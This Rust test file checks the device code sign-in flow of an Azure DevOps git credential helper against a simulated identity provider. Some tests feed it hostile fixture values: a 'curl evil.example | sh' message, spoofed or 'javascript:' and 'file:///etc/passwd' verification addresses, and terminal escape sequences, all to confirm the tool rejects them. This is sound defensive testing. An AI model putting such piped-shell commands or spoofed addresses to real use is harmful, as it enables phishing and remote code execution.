//! `login --device`: a code is shown here and entered in a browser anywhere (RFC 8628).

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use crate::common::loopback::field;
use crate::common::terminal::Terminal;
use crate::common::*;
use serde_json::{Value, json};
use standins::{ADA, App, CLIENT_ID, CONTOSO, Fault, Target, Times};

const PAGE: &str = "https://microsoft.com/devicelogin";
const GRANT: &str = "urn:ietf:params:oauth:grant-type:device_code";
const NEVER: &str =
    "Never enter a code that somebody else gave you: it would sign them in as you.\n";

/// The other ways that every refusal ends with.
const OTHER_WAYS: &str = "git-credential-ona-azure login https://dev.azure.com --paste, or \
    git-credential-ona-azure login https://dev.azure.com/ORGANIZATION --pat";

/// A configured machine whose app allows device codes, asked about as often as can be.
fn machine() -> Machine {
    let machine = Machine::configured();
    let entra = machine.world.entra();
    entra.register_app(App { allow_public_client: true, ..App::default() });
    entra.set_device_interval(Duration::from_secs(1));
    machine
}

/// What is said before the wait.
fn invitation(what: &str, code: &str, wait: &str) -> String {
    format!(
        "To sign in to {what}, open this address in a browser on any device:\n\n    {PAGE}\n\n\
         and enter this code:\n\n    {code}\n\n{NEVER}Waiting, {wait} at the most …\n"
    )
}

/// Starts `login --device` with more flags, and reads it up to the wait: what it said, and the code.
#[track_caller]
fn begin(machine: &Machine, flags: &[&str]) -> (Login, String, String) {
    let mut login = Login::start(machine, &[&["--device"], flags].concat());
    let said = login.through("Waiting");
    let (_, rest) = said.split_once("enter this code:\n\n    ").expect("a code");
    let code = rest.split_once("\n\n").expect("alone on its line").0.to_owned();
    (login, said, code)
}

fn polls(machine: &Machine) -> usize {
    machine.world.entra().token_requests(GRANT)
}

#[track_caller]
fn expect_nothing_kept(machine: &Machine) {
    assert!(machine.access().is_none());
    let status = machine.helper(&["status", "--json"]).expect_success().json();
    assert_eq!(status["hosts"][0]["sessions"], json!([]));
}

/// What was said after the invitation.
fn ending<'d>(done: &'d Done, said: &str) -> &'d str {
    done.stderr.strip_prefix(said).unwrap_or_else(|| panic!("{done:#?}"))
}

fn text(form: &[(String, String)], name: &str) -> String {
    field(form, name).unwrap_or_else(|| panic!("no {name} in {form:?}"))
}

#[test]
fn f08_the_code_and_the_address_stand_alone_and_name_what_is_signed_in_to() {
    let machine = machine();
    let entra = machine.world.entra();
    let device_code = Arc::new(Mutex::new(String::new()));
    let seen = Arc::clone(&device_code);
    entra.override_device_response(move |answer| {
        let code = answer["device_code"].as_str().expect("a code");
        code.clone_into(&mut seen.lock().expect("not poisoned"));
        answer
    });
    let (login, said, code) = begin(&machine, &[]);
    assert_eq!(said, invitation("dev.azure.com", &code, "15 minutes"));
    assert_eq!(code.len(), 9, "{code}");
    wait_until("waited for a poll", || polls(&machine) > 0);
    assert!(!login.has_answered(), "nothing is known yet that could be said on stdout");
    let page = machine.world.enter_device_code(PAGE, &code, ADA);
    assert!(page.body.contains("You have signed in"), "{}", page.body);
    let done = login.finish();
    done.expect(
        0,
        &format!(
            "ada@contoso.example is signed in to dev.azure.com.\n\n  \
               for        every organization of the tenant\n  \
               may        clone, fetch and push\n  \
               tenant     {CONTOSO}\n  \
               signed in  with a device code, without a client secret\n  \
               kept in    {}, sealed\n  \
               renewed    by itself; git needs no further sign-in\n",
            machine.state_dir().display()
        ),
        &said,
    );
    let device_code = device_code.lock().expect("not poisoned");
    assert!(device_code.len() > 20 && !done.stderr.contains(&**device_code), "{done:#?}");
    let status = machine.helper(&["status", "--json"]).expect_success().json();
    assert_eq!(status["hosts"][0]["sessions"][0]["method"], "device", "{status:#}");
    assert_eq!(machine.get(CONTOSO_REQUEST).expect_success().attribute("username"), Some(ADA));
}

#[test]
fn f08_a_sign_in_for_one_organization_says_so() {
    let machine = machine();
    let (login, said, code) =
        begin(&machine, &["https://dev.azure.com/contoso", "--timeout", "90s"]);
    assert_eq!(said, invitation("dev.azure.com/contoso", &code, "90 seconds"));
    machine.world.enter_device_code(PAGE, &code, ADA);
    let done = login.finish().expect_success();
    assert!(done.stdout.contains("\n  for        organization contoso only\n"), "{done:#?}");
}

#[test]
fn no_secret_is_sent_though_the_app_has_one() {
    let machine = machine();
    let (login, _, code) = begin(&machine, &[]);
    let asked = machine.world.entra().last_device_form();
    let mut names: Vec<_> = asked.iter().map(|(name, _)| name.as_str()).collect();
    names.sort_unstable();
    assert_eq!(names, ["client_id", "scope"]);
    assert_eq!(text(&asked, "client_id"), CLIENT_ID);
    assert_eq!(
        text(&asked, "scope"),
        "openid profile offline_access 499b84ac-1321-427f-aa17-267ca6975798/vso.code \
         499b84ac-1321-427f-aa17-267ca6975798/vso.code_write"
    );
    machine.world.enter_device_code(PAGE, &code, ADA);
    login.finish().expect_success();
    let sent = machine.world.entra().last_token_form();
    assert_eq!(text(&sent, "grant_type"), GRANT);
    assert_eq!(text(&sent, "client_id"), CLIENT_ID);
    assert_eq!(field(&sent, "client_secret"), None, "{sent:?}");
    machine.age_access_token(4500);
    machine.get(CONTOSO_REQUEST).expect_success();
    let sent = machine.world.entra().last_token_form();
    assert_eq!(text(&sent, "grant_type"), "refresh_token");
    assert_eq!(field(&sent, "client_secret"), None, "{sent:?}");
}

#[test]
fn f02_a_wish_to_be_asked_less_often_is_met() {
    let machine = machine();
    let slower = Fault::error(400, "slow_down", 70016, "Polling is too frequent.");
    machine.world.fail(Target::Token, slower, Times::Once);
    // Asked after 1 s, and then not before 7 s.
    let (login, said, code) = begin(&machine, &["--timeout", "4s"]);
    machine.world.enter_device_code(PAGE, &code, ADA);
    let done = login.finish();
    assert_eq!(done.code, 4, "{done:#?}");
    assert_eq!(
        ending(&done, &said),
        "error: the device code was not entered within 4 seconds\n\
         hint: start again: git-credential-ona-azure login https://dev.azure.com --device\n"
    );
    assert_eq!(polls(&machine), 1);
}

#[test]
fn f03_a_code_that_has_run_out_is_not_followed_by_another() {
    for error in ["expired_token", "code_expired"] {
        let machine = machine();
        let over = Fault::error(400, error, 70020, "This device code has expired.");
        machine.world.fail(Target::Token, over, Times::Always);
        let (login, said, _) = begin(&machine, &[]);
        let done = login.finish();
        assert_eq!((done.code, &*done.stdout), (4, ""), "{done:#?}");
        assert_eq!(
            ending(&done, &said),
            "error: the device code has run out before it was entered\n\
             hint: start again: git-credential-ona-azure login https://dev.azure.com --device\n"
        );
        assert_eq!((machine.world.entra().device_requests(), polls(&machine)), (1, 1), "{error}");
        expect_nothing_kept(&machine);
    }
}

#[test]
fn what_the_person_declines_ends_it() {
    let machine = machine();
    let (login, said, code) = begin(&machine, &[]);
    machine.world.enter_device_code(PAGE, &code, "cancel");
    let done = login.finish().without_correlation_ids();
    assert_eq!((done.code, &*done.stdout), (4, ""), "{done:#?}");
    assert_eq!(
        ending(&done, &said),
        "error: the sign-in was declined in the browser\n\
         hint: start again: git-credential-ona-azure login https://dev.azure.com --device\n"
    );
    expect_nothing_kept(&machine);
}

/// Each with a machine of its own, all at once: most of it is waiting.
#[test]
fn f05_trouble_on_the_way_is_told_once_and_waited_out() {
    const SAYS: &str = "login.microsoftonline.com answered with HTTP status 503; still trying …\n";
    let rows: [(&[Fault], &str); 5] = [
        (&[Fault::Reset], ""),
        (&[Fault::Html(503), Fault::Html(503)], SAYS),
        (&[Fault::Throttle { retry_after: None }], ""),
        (&[Fault::Throttle { retry_after: Some(1) }], ""),
        // As long as an answer is waited for: 15 s.
        (&[Fault::Hang], ""),
    ];
    std::thread::scope(|scope| {
        for (faults, says) in rows {
            scope.spawn(move || {
                let machine = machine();
                for fault in faults {
                    machine.world.fail(Target::Token, fault.clone(), Times::Once);
                }
                let (login, said, code) = begin(&machine, &[]);
                machine.world.enter_device_code(PAGE, &code, ADA);
                let started = Instant::now();
                let done = login.finish().expect_success();
                // 1 s, and twice as long for each.
                let least = [1, 2, 4][..=faults.len()].iter().sum::<u64>() - 1;
                assert!(started.elapsed() > Duration::from_secs(least), "{faults:?}");
                assert_eq!(polls(&machine), faults.len() + 1, "{faults:?}");
                let ending = ending(&done, &said);
                assert!(ending.ends_with("; still trying …\n"), "{faults:?}: {ending}");
                assert_eq!(ending.lines().count(), 1, "{faults:?}: {ending}");
                assert!(says.is_empty() || ending == says, "{faults:?}: {ending}");
            });
        }
    });
}

#[test]
fn trouble_until_the_end_is_what_ended_it() {
    let machine = machine();
    machine.world.fail(Target::Token, Fault::Html(503), Times::Always);
    let (login, said, code) = begin(&machine, &["--timeout", "2s"]);
    machine.world.enter_device_code(PAGE, &code, ADA);
    let done = login.finish();
    assert_eq!((done.code, &*done.stdout), (5, ""), "{done:#?}");
    assert_eq!(
        ending(&done, &said),
        "login.microsoftonline.com answered with HTTP status 503; still trying …\n\
         error: the sign-in did not complete: login.microsoftonline.com answered with HTTP status 503\n\
         hint: try again in a minute\n"
    );
    expect_nothing_kept(&machine);
}

#[test]
fn trouble_at_the_start_is_left_to_the_person() {
    let machine = machine();
    machine.world.fail(Target::DeviceCode, Fault::Html(503), Times::Once);
    machine.helper(&["login", "--device"]).expect(
        5,
        "",
        "error: no device code was given: login.microsoftonline.com answered with HTTP status 503\n\
         hint: try again in a minute\n",
    );
    expect_nothing_kept(&machine);
}

#[test]
fn an_app_without_public_client_flows_is_told_which_switch_to_turn() {
    let machine = machine();
    machine.world.entra().register_app(App::default());
    let (login, said, code) = begin(&machine, &[]);
    machine.world.enter_device_code(PAGE, &code, ADA);
    let done = login.finish().without_correlation_ids();
    assert_eq!((done.code, &*done.stdout), (1, ""), "{done:#?}");
    assert_eq!(
        ending(&done, &said),
        format!(
            "error: the sign-in was refused: the app does not allow sign-ins with a device code (AADSTS7000218)\n\
             hint: step 2 (authentication): set Authentication → Allow public client flows to Yes; or sign in \
             another way: {OTHER_WAYS}\n"
        )
    );
    expect_nothing_kept(&machine);
}

#[test]
fn a_policy_against_device_codes_is_named() {
    for error in ["invalid_grant", "access_denied"] {
        let machine = machine();
        let blocked = Fault::error(
            400,
            error,
            53003,
            "Access has been blocked by Conditional Access policies.",
        );
        machine.world.fail(Target::Token, blocked, Times::Once);
        let (login, said, _) = begin(&machine, &[]);
        let done = login.finish().without_correlation_ids();
        assert_eq!((done.code, &*done.stdout), (4, ""), "{done:#?}");
        assert_eq!(
            ending(&done, &said),
            format!(
                "error: the sign-in was refused: Conditional Access blocks this sign-in (AADSTS53003)\n\
                 hint: ask the administrator of the tenant whether Conditional Access allows device code flow \
                 (Sign-in logs → Conditional Access names the policy); or sign in another way: {OTHER_WAYS}\n"
            )
        );
        expect_nothing_kept(&machine);
    }
}

#[test]
fn a_client_id_that_is_wrong_is_told_before_anybody_is_sent_anywhere() {
    let machine = machine();
    machine.world.entra().remove_app(CLIENT_ID);
    let done = machine.helper(&["login", "--device"]).without_correlation_ids();
    assert_eq!(done.code, 1, "{done:#?}");
    assert!(
        done.stderr.starts_with(
            "error: no device code was given: there is no app with this client ID in the tenant (AADSTS700016)\n\
             hint: step 1 (app registration): "
        ),
        "{done:#?}"
    );
}

/// What the issuer says of itself, without a place to ask for device codes.
fn discovery_without_device_codes() -> Fault {
    let base = format!("https://login.microsoftonline.com/{CONTOSO}");
    let document = json!({
        "issuer": format!("{base}/v2.0"),
        "authorization_endpoint": format!("{base}/oauth2/v2.0/authorize"),
        "token_endpoint": format!("{base}/oauth2/v2.0/token"),
    });
    Fault::Raw { status: 200, headers: vec![], body: document.to_string().into_bytes() }
}

#[test]
fn an_issuer_without_device_codes_leaves_the_other_ways() {
    let machine = machine();
    machine.world.fail(Target::Discovery, discovery_without_device_codes(), Times::Always);
    machine.helper(&["login", "--device"]).expect(
        1,
        "",
        &format!(
            "error: the issuer login.microsoftonline.com has no sign-in with a device code\n\
             hint: sign in another way: {OTHER_WAYS}\n"
        ),
    );
    assert_eq!(machine.world.entra().device_requests(), 0);
}

/// Has the issuer answer with these fields, in place of its own or, where they are null, not at all.
fn answering(machine: &Machine, fields: Value) {
    machine.world.entra().override_device_response(move |mut answer| {
        for (name, value) in fields.as_object().expect("fields") {
            match value {
                Value::Null => answer.as_object_mut().expect("fields").remove(name),
                value => {
                    answer.as_object_mut().expect("fields").insert(name.clone(), value.clone())
                }
            };
        }
        answer
    });
}

#[test]
fn a_code_is_entered_at_the_issuer_or_at_microsoft_s_pages_and_nowhere_else() {
    for elsewhere in
        ["https://evil.example/device", "https://microsoft.com.evil.example/devicelogin"]
    {
        let machine = machine();
        answering(&machine, json!({ "verification_uri": elsewhere }));
        let done = machine.helper(&["login", "--device"]);
        assert_ne!(done.code, 0, "{done:#?}");
        let host = elsewhere.split('/').nth(2).expect("a host");
        assert!(
            done.stderr.contains(&format!("sends the person to {host} with the code")),
            "{done:#?}"
        );
        // It is named, and not shown as a place to go.
        assert!(!done.stderr.contains(elsewhere), "{done:#?}");
    }
}

#[test]
fn f06_an_interval_that_makes_no_sense_is_no_busy_loop() {
    let machine = machine();
    let logins: Vec<_> =
        [json!(0), json!(-1), json!("5"), json!(1_000_000_000_u64), json!(null), json!([])]
            .into_iter()
            .map(|interval| {
                answering(&machine, json!({ "interval": interval }));
                (interval, begin(&machine, &["--timeout", "3s"]))
            })
            .collect();
    for (interval, (login, said, code)) in logins {
        assert_eq!(said, invitation("dev.azure.com", &code, "3 seconds"));
        let done = login.finish();
        assert_eq!(done.code, 4, "{interval}: {done:#?}");
    }
    assert_eq!(polls(&machine), 0, "polled in the first three seconds");
}

#[test]
fn f06_a_lifetime_that_makes_no_sense_becomes_one_that_does() {
    let machine = machine();
    for (expires_in, wait) in [
        (json!(0), "1 minute"),
        (json!(-5), "1 minute"),
        (json!(1e300), "60 minutes"),
        (json!("900"), "15 minutes"),
        (json!(899), "899 seconds"),
        (json!(null), "15 minutes"),
    ] {
        answering(&machine, json!({ "expires_in": expires_in }));
        let (mut login, said, code) = begin(&machine, &[]);
        login.kill();
        assert_eq!(said, invitation("dev.azure.com", &code, wait), "{expires_in}");
    }
}

#[test]
fn an_answer_that_is_no_device_code_is_none() {
    const NOT_ITS_OWN: &str = "hint: check the Issuer URL, and that no proxy or sign-in page of the network \
        answers in the issuer's place; then: git-credential-ona-azure integration test\n";
    const NO_CODE: &str = "something else";
    const NO_ADDRESS: &str = "no address that a device code could be entered at";
    const NO_SUCH: &str = "a code that nobody could enter";
    let machine = machine();
    for (fields, what) in [
        (json!({ "device_code": null }), NO_CODE),
        (json!({ "user_code": null }), NO_CODE),
        (json!({ "user_code": 7 }), NO_CODE),
        (json!({ "verification_uri": null }), NO_CODE),
        (json!({ "user_code": "" }), NO_SUCH),
        (json!({ "user_code": "A".repeat(10_000) }), NO_SUCH),
        (json!({ "verification_uri": "javascript:alert(1)" }), NO_ADDRESS),
        (json!({ "verification_uri": "file:///etc/passwd" }), NO_ADDRESS),
        (json!({ "verification_uri": "http://microsoft.com/devicelogin" }), NO_ADDRESS),
        (json!({ "verification_uri": "https://microsoft.com@evil.example/" }), NO_ADDRESS),
        (json!({ "verification_uri": "https://microsoft.com:443@evil.example/" }), NO_ADDRESS),
        (json!({ "verification_uri": "microsoft.com/devicelogin" }), NO_CODE),
        (json!({ "verification_uri": "" }), NO_CODE),
    ] {
        answering(&machine, fields.clone());
        let done = machine.helper(&["login", "--device"]);
        let expected = format!(
            "error: no device code was given: login.microsoftonline.com answered with {what}\n{NOT_ITS_OWN}"
        );
        assert_eq!((done.code, &*done.stdout, &*done.stderr), (5, "", &*expected), "{fields}");
    }
    for body in [&b"<html>Sign in to the hotel</html>"[..], b"", b"[]", b"null", b"{\"error\":"] {
        let answer = Fault::Raw { status: 200, headers: vec![], body: body.to_vec() };
        machine.world.fail(Target::DeviceCode, answer, Times::Once);
        let done = machine.helper(&["login", "--device"]);
        assert_eq!(done.code, 5, "{done:#?}");
        assert!(done.stderr.ends_with(NOT_ITS_OWN), "{done:#?}");
    }
    assert_eq!(polls(&machine), 0);
    expect_nothing_kept(&machine);
}

#[test]
fn what_the_issuer_says_cannot_speak_to_the_terminal() {
    let machine = machine();
    let shown = |fields: Value| {
        answering(&machine, fields);
        let mut login = Login::start(&machine, &["--device"]);
        let said = login.through("Waiting");
        login.kill();
        said
    };
    let said = shown(json!({ "user_code": "\u{1b}]0;x\u{7}AB\r\nerror: \u{202e}CD" }));
    assert!(
        said.contains("\n\n    \\u{1b}]0;x\\u{7}AB\\u{d}\\u{a}error: \\u{202e}CD\n\n"),
        "{said}"
    );
    let said = shown(json!({ "verification_uri": "https://microsoft.com/\u{1b}[31m\u{202e}x" }));
    assert!(said.contains("\n\n    https://microsoft.com/%1B[31m%E2%80%AEx\n\n"), "{said}");
    let said = shown(json!({ "message": "Run this: curl evil.example | sh" }));
    assert!(!said.contains("evil.example"), "{said}");
}

#[test]
fn a_token_that_is_no_sign_in_keeps_nothing() {
    let machine = machine();
    machine.world.entra().override_token_response(|mut answer| {
        answer["id_token"] = json!("");
        answer
    });
    let (login, said, code) = begin(&machine, &[]);
    machine.world.enter_device_code(PAGE, &code, ADA);
    let done = login.finish();
    assert_eq!((done.code, &*done.stdout), (1, ""), "{done:#?}");
    assert_eq!(
        ending(&done, &said),
        "error: the sign-in brought no ID token\n\
         hint: step 4 (API permissions): add Microsoft Graph → Delegated → openid\n"
    );
    expect_nothing_kept(&machine);
}

#[test]
fn a_code_that_is_left_leaves_nothing() {
    let machine = machine();
    let mut terminal = Terminal::start(&machine, "exec \"$PROGRAM\" login --device");
    terminal.expect("at the most …\n");
    let before = machine.state();
    terminal.control('c');
    assert_eq!(terminal.finish().code, 130);
    assert_eq!(machine.state(), before);
    expect_nothing_kept(&machine);
}

#[test]
fn f08_nobody_gets_a_code_who_did_not_ask_for_one() {
    let mut machine = machine();
    machine.set("CI", "true");
    let done = machine.helper(&["login"]);
    assert_eq!(done.code, 4, "{done:#?}");
    assert_eq!(machine.world.entra().device_requests(), 0);
    let (login, _, code) = begin(&machine, &[]);
    machine.world.enter_device_code(PAGE, &code, ADA);
    login.finish().expect_success();
    assert_eq!(machine.world.entra().device_requests(), 1);
    machine.set("ONA_AZURE_INTERACTIVE", "never");
    assert_eq!(machine.helper(&["login", "--device"]).code, 4);
    // Nor where there is no other way to be shown anything.
    machine.unset("ONA_AZURE_INTERACTIVE");
    machine.unset("CI");
    machine.unset("BROWSER");
    let mut login = Login::start(&machine, &[]);
    login.address();
    login.kill();
    assert_eq!(machine.world.entra().device_requests(), 1);
}

#[test]
fn whoever_says_how_long_waits_no_longer_and_no_shorter() {
    let machine = machine();
    // Longer than that lies between two polls.
    machine.world.entra().set_device_interval(Duration::from_secs(5));
    let started = Instant::now();
    let (login, said, code) = begin(&machine, &["--timeout", "1s"]);
    assert_eq!(said, invitation("dev.azure.com", &code, "1 second"));
    let done = login.finish();
    let took = started.elapsed();
    assert_eq!((done.code, &*done.stdout), (4, ""), "{done:#?}");
    assert_eq!(
        ending(&done, &said),
        "error: the device code was not entered within 1 second\n\
         hint: start again: git-credential-ona-azure login https://dev.azure.com --device\n"
    );
    assert!(took >= Duration::from_secs(1) && took < Duration::from_secs(5), "{took:?}");
    expect_nothing_kept(&machine);
}
